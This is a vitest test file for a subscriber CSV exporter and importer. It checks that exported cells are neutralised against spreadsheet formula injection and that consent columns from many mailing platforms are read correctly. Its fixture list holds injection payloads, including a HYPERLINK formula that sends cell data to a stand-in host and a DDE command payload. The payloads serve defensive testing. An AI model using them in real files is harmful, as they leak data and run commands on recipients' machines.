import { expect, it } from 'vitest';
import type { Subscriber } from '../../../../src/domain/people/subscriber.ts';
import {
  formatSubscriberCsv,
  listSkippedLines,
  parseSubscriberCsv,
} from '../../../../src/dashboard/subscribers/subscriber-csv.ts';

const subscriber = (email: string, change: Partial<Subscriber> = {}): Subscriber => ({
  id: email,
  email,
  status: 'confirmed',
  created_at: '2026-11-01T10:00:00Z',
  confirmed_at: '2026-11-01T10:20:00Z',
  unsubscribed_at: null,
  consent: null,
  ...change,
});
const parse = (text: string) => {
  const parsed = parseSubscriberCsv(text);
  if (!parsed.ok) throw new Error(parsed.code);
  return parsed.value;
};
const dangers = [
  '=HYPERLINK("http://evil.example?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '\ufeff=1+1',
  'fair", =1+1',
];

it('writes 20,000 rows of which no spreadsheet runs one', () => {
  const rows = Array.from({ length: 20_000 }, (_, index) => {
    const danger = dangers[index % dangers.length] ?? '';
    return subscriber(`${danger}${index}@reader.example`, { consent: danger });
  });
  const csv = formatSubscriberCsv(rows);
  expect(csv.startsWith('\ufeffemail,status,signed up,confirmed,unsubscribed,consent\r\n')).toBe(
    true,
  );
  const cells = readCells(csv.slice(1));
  expect(cells).toHaveLength(6 * 20_001);
  const running = cells.filter((cell) => /^[\s\ufeff]*[=+\-@＝＋－＠]/.test(cell));
  expect(running).toEqual([]);
  // Nothing but the apostrophe was changed.
  expect(cells.at(6 + 5)).toBe(`'${dangers[0]}`);
  expect(cells.at(-1)).toBe(rows.at(-1)?.consent?.replace(/^(?=[\s=+\-@])/, "'"));
});

/** Reads CSV as RFC 4180 has it, with a reader that is not the library's. */
function readCells(csv: string): string[] {
  const cells = csv.match(/"(?:[^"]|"")*"|[^,\r\n]+|(?<=[,\n]|^)(?=[,\r])/g) ?? [];
  return cells.map((cell) =>
    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
  );
}

it('reads what it wrote, and subscribes nobody who had left', () => {
  const csv = formatSubscriberCsv([
    subscriber('ada@reader.example', { consent: 'Fair, "by hand"\nin November' }),
    subscriber('+tag@reader.example'),
    subscriber('-minus@reader.example'),
    subscriber('left@reader.example', { status: 'unsubscribed' }),
    subscriber('new@reader.example', { status: 'pending' }),
  ]);
  const { lines, skipped } = parse(csv);
  expect([...lines]).toEqual([
    ['ada@reader.example', 2],
    ['+tag@reader.example', 4],
    ['-minus@reader.example', 5],
  ]);
  expect(skipped.map(({ line, reason }) => [line, reason])).toEqual([
    [6, 'no-consent'],
    [7, 'no-consent'],
  ]);
});

it.each([
  ['a header in another column', 'Name;E-Mail Address\nAda;ada@reader.example', 2],
  ['no header', 'ada@reader.example\nbea@reader.example', 1],
  ['tabs and spaces', 'Email\tName\n  ADA@Reader.Example \tAda\n', 2],
  ['a byte order mark and blank lines', '\ufeffemail\r\n\r\nada@reader.example\r\n', 3],
  ['quotation marks', '"email","name"\r\n"ada@reader.example","Vance, Ada"\r\n', 2],
])('reads a file with %s', (_, text, line) => {
  expect(parse(text).lines.get('ada@reader.example')).toBe(line);
});

it('names each line that it skips', () => {
  const text = 'email\nada@reader.example\nADA@reader.example\nnobody\n\nb@c@d.example\n=1+1';
  const { lines, skipped } = parse(text);
  expect([...lines.keys()]).toEqual(['ada@reader.example']);
  expect(skipped).toEqual([
    { line: 3, text: 'ada@reader.example', reason: 'repeated' },
    { line: 4, text: 'nobody', reason: 'invalid' },
    { line: 6, text: 'b@c@d.example', reason: 'invalid' },
    { line: 7, text: '=1+1', reason: 'invalid' },
  ]);
  const result = {
    added: 0,
    known: [],
    unsubscribed: ['ada@reader.example'],
    erased: [],
    invalid: [],
  };
  expect(listSkippedLines({ lines, skipped, questions: [] }, result).slice(0, 2)).toEqual([
    { line: 2, text: 'ada@reader.example', reason: 'unsubscribed' },
    { line: 3, text: 'ada@reader.example', reason: 'repeated' },
  ]);
});

it.each([
  ['nothing', '', 'no-column'],
  ['no address', 'name\nAda', 'no-column'],
  ['a header only', 'email\n\n', 'no-rows'],
  ['an open quotation', 'email\n"ada@reader.example', 'unreadable'],
  ['more than 50,000 lines', 'email\n'.repeat(50_001) + 'a', 'too-large'],
])('rejects a file with %s', (_, text, code) => {
  expect(parseSubscriberCsv(text)).toEqual({ ok: false, code });
});

it('reads 20,000 lines', () => {
  const rows = Array.from({ length: 20_000 }, (_, index) => `reader${index}@reader.example,Ada`);
  expect(parse(`email,name\n${rows.join('\n')}`).lines.size).toBe(20_000);
});

/** A maker's header, and its values of somebody who agreed and of some who did not. */
const makers: [maker: string, header: string, agreed: string[], others: string[]][] = [
  ['Shopify', 'Accepts Email Marketing', ['yes'], ['no', '']],
  ['Shopify, older', 'Accepts Marketing', ['yes'], ['no']],
  ['Mailchimp', 'OPTIN_TIME,CONFIRM_TIME,MEMBER_RATING', [',2021-05-06 07:08:09,2'], [',,2']],
  [
    'Mailchimp, left',
    'CONFIRM_TIME,UNSUB_TIME',
    ['2021-05-06 07:08:09,'],
    ['2021-05-06 07:08:09,2022-01-01 10:00:00'],
  ],
  [
    'Mailchimp, cleaned',
    'CONFIRM_TIME,CLEAN_TIME',
    ['5/6/2021 7:08,'],
    ['5/6/2021 7:08,1/2/2022 9:00'],
  ],
  [
    'Klaviyo',
    'Email Marketing Consent,SMS Marketing Consent',
    ['SUBSCRIBED,', 'subscribed,UNSUBSCRIBED'],
    ['NEVER_SUBSCRIBED,SUBSCRIBED', 'UNSUBSCRIBED,'],
  ],
  [
    'Klaviyo, suppressed',
    'Email Marketing Consent,Email Suppressions',
    ['SUBSCRIBED,[]'],
    ['SUBSCRIBED,["HARD_BOUNCE"]'],
  ],
  ['Klaviyo, list', '$consent', ["\"['email', 'sms']\""], ["['sms']", '[]']],
  ['Brevo', 'OPT_IN,EMAIL_BLACKLISTED', ['true,false'], ['true,true', 'false,false']],
  ['Squarespace', 'Accepts Marketing,Subscriber Source', ['TRUE,Footer'], ['FALSE,Footer']],
  [
    'Wix',
    'Email subscriber status,SMS subscriber status',
    ['Subscribed,Never subscribed'],
    ['Never subscribed,Subscribed', 'Unsubscribed,', 'Pending,'],
  ],
  [
    'Ghost',
    'subscribed_to_emails,deleted_at',
    ['true,'],
    ['false,', 'true,2024-05-06T07:08:09.000Z'],
  ],
  ['Substack', 'email_disabled', ['false'], ['true']],
  [
    'MailerLite',
    'Status,Subscribed,Unsubscribed',
    ['Active,2024-05-06 07:08:09,'],
    ['Unconfirmed,,', 'Bounced,,', 'Junk,,', 'Active,2024-05-06,2025-01-01'],
  ],
  ['Kit', 'State', ['active'], ['cancelled', 'bounced', 'complained']],
  [
    'Constant Contact',
    'Email permission status,Confirmed Opt-Out Date',
    ['Express,'],
    ['Unsubscribed,', 'Express,01/02/2025', 'Awaiting confirmation,'],
  ],
  ['Omnisend', 'emailStatus', ['subscribed'], ['nonSubscribed', 'unsubscribed']],
  [
    'HubSpot',
    'Unsubscribed from all email,Email hard bounce reason',
    [',', 'false,'],
    ['true,', ',UNKNOWN_USER'],
  ],
  [
    'MailPoet',
    'Global Status,List Status',
    ['Subscribed,Subscribed'],
    ['Unconfirmed,Subscribed', 'Subscribed,Unsubscribed', 'Inactive,Subscribed'],
  ],
  ['Beehiiv', 'Status', ['active'], ['inactive', 'pending']],
  ['a sheet in French', 'Inscrit à la newsletter', ['oui', 'Oui'], ['non', '']],
  ['a sheet in German', 'Einwilligung', ['ja'], ['nein']],
  ['a sheet in Spanish', 'Acepta correo / newsletter', ['sí'], ['no']],
  ['a sheet with 0 and 1', 'opt-in', ['1'], ['0']],
  ['a sheet of dates', 'Date of consent', ['May 6, 2024', '06.05.2024'], ['']],
];
const quote = (cell: string) =>
  cell.includes('"') && !cell.startsWith('"') ? `"${cell.replaceAll('"', '""')}"` : cell;
const quoteRow = (row: string) => (row.includes('["') ? row.split(',').map(quote).join() : row);

it.each(makers)('adds who agreed by the file of %s', (_, header, agreed, others) => {
  const rows = [...agreed, ...others].map(
    (row, index) => `reader${index}@x.example,${quoteRow(row)}`,
  );
  const { lines, skipped, questions } = parse(`Email,${header}\n${rows.join('\n')}`);
  expect(questions).toEqual([]);
  expect([...lines.keys()]).toEqual(agreed.map((_, index) => `reader${index}@x.example`));
  expect(skipped.map(({ reason }) => reason)).toEqual(others.map(() => 'no-consent'));
});

it.each([
  ['an unknown value', 'Accepts Marketing', ['yes', 'maybe'], 'maybe'],
  ['a category in numbers', 'DOUBLE_OPT-IN', ['1', '2'], '2'],
  ['an implied permission', 'Email permission status', ['Express', 'Implied'], 'Implied'],
  ['a column that may be about consent', 'active_subscription', ['true', 'false'], null],
  ['a header of other words', 'OK to write', ['yes', 'no'], null],
  ['a value of other words', 'Group', ['Subscribed', 'Unsubscribed'], null],
  ['a status of something', 'Account status', ['Gold', 'Silver'], null],
])('asks about %s, and adds nobody unasked', (_, header, values, value) => {
  const text = `Email,${header}\n${values.map((value, index) => `r${index}@x.example,${value}`).join('\n')}`;
  const asked = parse(text);
  expect(asked.questions).toMatchObject([
    { column: header, isAboutColumn: value === null, ...(value && { values: [value] }) },
  ]);
  expect(asked.lines.has('r1@x.example')).toBe(false);
  const key = asked.questions[0]?.key ?? '';
  const refused = parseSubscriberCsv(text, new Map([[key, value === null ? 'yes' : 'no']]));
  expect(refused.ok && refused.value.lines.has('r1@x.example')).toBe(false);
  const agreed = parseSubscriberCsv(text, new Map([[key, value === null ? 'no' : 'yes']]));
  expect(agreed.ok && [...agreed.value.lines.keys()]).toEqual(['r0@x.example', 'r1@x.example']);
});

it('asks about a column without a header, and once about many values', () => {
  expect(parse('ada@x.example,yes\nbea@x.example,no').questions).toMatchObject([
    { column: 'Column 2', isAboutColumn: true, values: ['yes', 'no'] },
  ]);
  const rows = Array.from({ length: 500 }, (_, index) => `r${index}@x.example,form ${index}`);
  expect(parse(`Email,Consent\n${rows.join('\n')}`).questions).toMatchObject([{ count: 500 }]);
});

it('adds nobody who agreed in one line and not in another', () => {
  const { lines } = parse('Email,Subscribed\nada@x.example,yes\nADA@x.example,no');
  expect([...lines]).toEqual([]);
});

it.each([
  'Name,State\nAda,Oregon',
  'Name,Accepts SMS Marketing\nAda,no',
  'Name,MEMBER_RATING\nAda,1',
  'Mailing Address City,Unsubscribe link\nPortland,https://x.example/u/1',
])('finds no consent in %j', (text) => {
  const [header, row] = text.split('\n');
  const { lines, questions } = parse(`Email,${header}\nada@x.example,${row}`);
  expect(questions).toEqual([]);
  expect(lines.size).toBe(1);
});
